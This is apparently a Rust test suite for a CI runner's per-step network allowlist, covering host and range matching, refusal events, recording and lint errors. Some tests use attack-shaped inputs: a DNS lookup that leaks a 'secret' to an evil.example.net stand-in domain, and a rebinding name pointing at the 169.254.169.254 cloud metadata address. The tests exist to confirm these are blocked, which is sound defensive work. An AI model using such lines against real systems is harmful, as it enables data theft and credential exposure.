//! What a step's `network` lets it reach: lists, what is told of refusals, what is recorded.

use std::sync::atomic::Ordering;

use harness::{Finished, TestEnvironment, World, for_everyone, for_one_user, images};
use serde_json::Value;

use crate::network::world;
use crate::support::run_local;

for_everyone!(a_list_is_held_by_name_and_by_address);

for_one_user!(
    names_that_are_not_listed_are_asked_of_nobody,
    a_name_that_changes_its_address_leads_to_nothing_else,
    no_other_resolver_answers_under_a_list,
    each_step_is_held_to_its_own_list,
    a_refusal_is_an_event_with_step_host_and_port,
    what_was_recorded_is_a_list_that_suffices,
    the_machines_network_has_to_be_allowed,
    the_machines_network_is_not_missed_by_what_does_not_run,
    a_mistake_in_a_list_is_told_at_its_place,
);

/// Runs a pipeline of the project in a world.
fn run_in(env: &TestEnvironment, world: &World, options: &[&str], pipeline: &str) -> Finished {
    let image = images::plain();
    env.pipeline(&format!("image: \"{image}\"\n{pipeline}"));
    let words = [&["run-local"], options].concat();
    env.agent(words).in_world(world).run()
}

fn a_list_is_held_by_name_and_by_address(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    let other = world.http("203.0.113.20:80", "of nobody's list");
    let _ = world.http("203.0.113.10:80", "web");
    let _ = world.http("203.0.113.10:8080", "another port");
    let _ = world.http("198.51.100.7:80", "in the range");
    let _ = world.http("[2001:db8::1]:80", "of the other family");
    world.name("web.example.org", &["203.0.113.10", "2001:db8::1"]);
    let _ = world.http("203.0.113.1:80", "lab");
    world.name("a.lab.example.org", &["203.0.113.1"]);
    world.name("lab.example.org", &["203.0.113.20"]);
    let script = "get() { timeout 10 wget -qO- http://$1/ 2>/dev/null || echo no; echo; }; \
        get web.example.org; get a.lab.example.org; get 198.51.100.7; get lab.example.org; get 203.0.113.20; \
        get web.example.org:8080; get [2001:db8::2]; get [::ffff:203.0.113.20]";
    let done = run_in(
        env,
        &world,
        &["--json"],
        &format!(
            "steps:\n  - name: step\n    network: {{ allow: [\"web.example.org:80\", \"*.lab.example.org\", 198.51.100.0/24] }}\n    run: |\n      {script}\n"
        ),
    )
    .expect(0);
    assert_eq!(
        done.log("step").replace("\n\n", "\n"),
        "web\nlab\nin the range\nno\nno\nno\nno\nno\n"
    );
    assert_eq!(other.load(Ordering::SeqCst), 0);
}

fn names_that_are_not_listed_are_asked_of_nobody(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    world.name("web.example.org", &["203.0.113.10"]);
    let script =
        "nslookup web.example.org || true; nslookup secret-of-the-step.evil.example.net || true";
    let _ = run_in(
        env,
        &world,
        &[],
        &format!("network: {{ allow: [web.example.org] }}\nsteps:\n  - run: {script}\n"),
    )
    .expect(0)
    .says("looking up secret-of-the-step.evil.example.net is refused: not in `allow`");
    let asked = world.asked();
    assert!(
        asked.iter().all(|name| name == "web.example.org"),
        "{asked:?}"
    );
    assert!(!asked.is_empty());
}

fn a_name_that_changes_its_address_leads_to_nothing_else(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    let machine = world.http_on_machine("203.0.113.2:80", "the machine's");
    let other = world.http("203.0.113.20:80", "another");
    // Whoever answers for the name answers with addresses that are not its own.
    world.name("rebinds.example.org", &["203.0.113.2"]);
    world.name("cloud.example.org", &["169.254.169.254"]);
    let script = "for to in rebinds.example.org cloud.example.org 203.0.113.20; do timeout 10 wget -qO- http://$to/ || true; done";
    let done = run_in(
        env,
        &world,
        &[],
        &format!("network: {{ allow: [rebinds.example.org, cloud.example.org] }}\nsteps:\n  - run: {script}\n"),
    )
    .expect(0);
    let _ = done.says(
        "a connection to rebinds.example.org:80 is refused: an address of the machine itself",
    );
    assert_eq!(
        machine.load(Ordering::SeqCst) + other.load(Ordering::SeqCst),
        0
    );
}

fn no_other_resolver_answers_under_a_list(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    world.name("evil.example.net", &["203.0.113.20"]);
    let script = "timeout 5 nslookup evil.example.net 203.0.113.1 || echo none";
    let done = run_in(
        env,
        &world,
        &[],
        &format!("network: {{ allow: [203.0.113.0/24] }}\nsteps:\n  - run: {script}\n"),
    )
    .expect(0);
    let _ = done.says("a datagram to 203.0.113.1:53 is refused: with `allow`, names are looked up at the job's own resolver only");
    assert_eq!(world.asked(), Vec::<String>::new());
}

fn each_step_is_held_to_its_own_list(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    let _ = world.http("203.0.113.10:80", "one");
    let _ = world.http("203.0.113.20:80", "two");
    world.name("one.example.org", &["203.0.113.10"]);
    world.name("two.example.org", &["203.0.113.20"]);
    let step = |name: &str, network: &str| {
        format!(
            "  - name: {name}\n    needs: []\n    network: {network}\n    run: |\n      for n in one two; do timeout 10 wget -qO- http://$n.example.org/ 2>/dev/null || echo no; echo; done\n"
        )
    };
    let pipeline = format!(
        "steps:\n{}{}{}",
        step("first", "{ allow: [one.example.org] }"),
        step("second", "{ allow: [two.example.org] }"),
        step("all", "default"),
    );
    let done = run_in(env, &world, &["--json"], &pipeline).expect(0);
    let log = |step: &str| done.log(step).replace("\n\n", "\n");
    assert_eq!(log("first"), "one\nno\n");
    assert_eq!(log("second"), "no\ntwo\n");
    assert_eq!(log("all"), "one\ntwo\n");
}

fn a_refusal_is_an_event_with_step_host_and_port(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    let _ = world.http("203.0.113.10:80", "web");
    world.name("web.example.org", &["203.0.113.10"]);
    let pipeline = "steps:\n  - name: build\n    network: { allow: [\"web.example.org:80\"] }\n    run: for n in 80 443 443; do timeout 10 wget -qO- http://web.example.org:$n/ || true; done\n";
    let done = run_in(env, &world, &["--json"], pipeline).expect(0);
    let of_network = |event: &&Value| {
        event["type"]
            .as_str()
            .is_some_and(|kind| kind.starts_with("network_"))
    };
    let events = done.events();
    let told: Vec<_> = events
        .iter()
        .filter(of_network)
        .map(|event| event.to_string())
        .collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
    {"host":"web.example.org","job":"main","port":80,"protocol":"tcp","step":"build","type":"network_reached"}
    {"host":"web.example.org","job":"main","port":443,"protocol":"tcp","reason":"not in `allow`","step":"build","type":"network_refused"}
    "#);
    let kinds: Vec<_> = events
        .iter()
        .filter_map(|event| event["type"].as_str())
        .collect();
    let at = |kind: &str| kinds.iter().position(|one| *one == kind).expect("an event");
    assert!(at("network_refused") < at("step_finished"));
}

fn what_was_recorded_is_a_list_that_suffices(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    let _ = world.http("203.0.113.10:80", "web");
    let _ = world.http("[2001:db8::1]:8080", "of the other family");
    world.echo("198.51.100.7:7000");
    world.name("web.example.org", &["203.0.113.10"]);
    let steps = "steps:\n  - name: get\n    NETWORK\n    run: wget -qO- http://web.example.org/; wget -qO- 'http://[2001:db8::1]:8080/'\n";
    let recorded = run_in(
        env,
        &world,
        &["--record-network", "--quiet"],
        &steps.replace("NETWORK\n    ", ""),
    )
    .expect(0)
    .output();
    let (_, block) = recorded.split_once("# job main, get\n").expect("a block");
    insta::assert_snapshot!(block, @r#"
    network:
      allow:
        - "[2001:db8::1]:8080"
        - "web.example.org:80"
    "#);
    let held = steps.replace("NETWORK", &block.trim_end().replace('\n', "\n    "));
    let _ = run_in(env, &world, &[], &held)
        .expect(0)
        .does_not_say("refused");
}

fn the_machines_network_has_to_be_allowed(env: &TestEnvironment) {
    let Some(world) = world(env) else { return };
    let pipeline = "steps:\n  - { name: first, run: echo first runs }\n  - { name: step, network: host, run: ip -o link | grep -c world }\n";
    let refused = |options: &[&str]| {
        let done = run_in(env, &world, options, pipeline).expect(2);
        done.output() + &done.errors()
    };
    insta::assert_snapshot!(refused(&[]), @r"
    error: .pipeline.yml:4: step `step` of job `main` has `network: host`, which is not allowed on this machine
    help: the machine's configuration can allow it: `network: { host: true }`
    ");
    assert_eq!(refused(&["--dry-run"]), refused(&[]));
    let done = run_in(env, &world, &["--network", "host"], "steps: [{ run: x }]\n");
    insta::assert_snapshot!(done.expect(2).errors(), @r"
    error: `--network host` is not allowed here
    help: the machine's configuration can allow it: `network: { host: true }`
    ");
    env.write("config.yml", "network: { host: true }\n");
    let _ = run_in(env, &world, &[], pipeline).expect(0);
}

/// Only what may run is asked whether it may.
fn the_machines_network_is_not_missed_by_what_does_not_run(env: &TestEnvironment) {
    env.pipeline(
        "image: host
jobs:
  other: { network: host, steps: [{ run: x }] }
  never: { if: 'false', network: host, steps: [{ run: x }] }
  main:
    network: host
    steps:
      - { name: never, if: 'false', run: x }
      - { name: private, network: none, run: 'true' }
",
    );
    let never = ["--job", "main", "--job", "never"];
    let _ = run_local(env, &never).expect(0).says("run: ok");
    let _ = run_local(env, &[])
        .expect(2)
        .says(".pipeline.yml:3: step `x` of job `other` has `network: host`");
}

fn a_mistake_in_a_list_is_told_at_its_place(env: &TestEnvironment) {
    env.pipeline("image: host\nsteps:\n  - run: x\n    network: { allow: [example.org, \"http://example.org\"] }\n");
    let done = env.agent(["lint"]).run();
    insta::assert_snapshot!(done.errors() + &done.output(), @r#"
    error[bad-target]: `http://example.org` is no host, address or range: the port is no number from 1 to 65535
     --> .pipeline.yml:4:37
      |
    4 |     network: { allow: [example.org, "http://example.org"] }
      |                                     ^^^^^^^^^^^^^^^^^^^^
      |
      = help: write `host`, `host:443`, `*.example.org`, `192.0.2.7`, `[2001:db8::1]:443` or `192.0.2.0/24`
    "#);
}
